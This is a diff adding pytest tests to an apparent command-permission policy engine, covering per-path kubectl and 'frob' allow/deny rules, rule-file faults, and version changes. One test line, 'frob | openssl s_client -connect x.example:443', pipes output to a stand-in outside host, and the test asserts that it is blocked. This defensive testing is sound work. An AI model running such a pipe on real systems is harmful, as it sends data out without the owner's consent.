@@ -80,3 +80,62 @@ def test_the_version_follows_the_content(tmp_path: Path) -> None:
 
     assert policy(tmp_path, "deny: [b]").version != first
     assert policy(tmp_path, "deny: [a]").version == first
+
+
+PATHS = """
+deny: ['kubectl logs *']
+allow: ['frob']
+paths:
+  /team/pay:
+    deny: ['kubectl get nodes*']
+    allow: ['frob --deep', 'kubectl logs *']
+"""
+
+
+def test_a_path_has_its_own_rules_and_those_above_it(tmp_path: Path) -> None:
+    rules = policy(tmp_path, PATHS)
+
+    assert decide("kubectl get nodes", policy=rules).is_allowed
+    for path in ("/team/pay", "/team/pay/api"):
+        own = rules.for_path(path)
+        assert decide("kubectl get nodes", policy=own).layer == "operator_deny"
+        assert decide("frob --deep", policy=own).layer == "operator_allow"
+        assert decide("frob", policy=own).is_allowed
+    assert not decide("frob --deep", policy=rules.for_path("/team/payroll")).is_allowed
+
+
+def test_no_path_may_allow_what_is_denied_above_it(tmp_path: Path) -> None:
+    own = policy(tmp_path, PATHS).for_path("/team/pay")
+
+    assert decide("kubectl logs x", policy=own).layer == "operator_deny"
+
+
+def test_a_fault_says_where_it_is(tmp_path: Path) -> None:
+    fault = policy(tmp_path, "deny: []\npaths:\n  /team:\n    denny: [x]\n").fault
+
+    assert fault
+    assert "policy.yaml: line 4: paths./team.denny" in fault
+
+
+def test_a_bad_rule_file_denies_every_command(tmp_path: Path) -> None:
+    (tmp_path / "x.yaml").write_text("programs: {ls: {}}")
+
+    decision = decide("ls", policy=load_policy(None, tmp_path))
+
+    assert (decision.verdict, decision.layer) == (DecisionVerdict.DENY, "operator_deny")
+
+
+def test_an_operators_program_is_allowed_by_rules_and_changes_the_version(tmp_path: Path) -> None:
+    (tmp_path / "x.yaml").write_text("programs: {frob: {flags: --status}}")
+    rules = load_policy(None, tmp_path)
+
+    assert decide("frob --status | wc -l", policy=rules).layer == "rules"
+    assert decide("frob --status | wc -l", policy=rules).is_allowed
+    assert rules.version != load_policy(None).version
+
+
+def test_an_allowed_command_passes_nothing_on_to_a_sender(tmp_path: Path) -> None:
+    rules = policy(tmp_path, "allow: ['frob']")
+
+    assert not decide("frob | openssl s_client -connect x.example:443", policy=rules).is_allowed
+    assert decide("frob | grep x", policy=rules).is_allowed
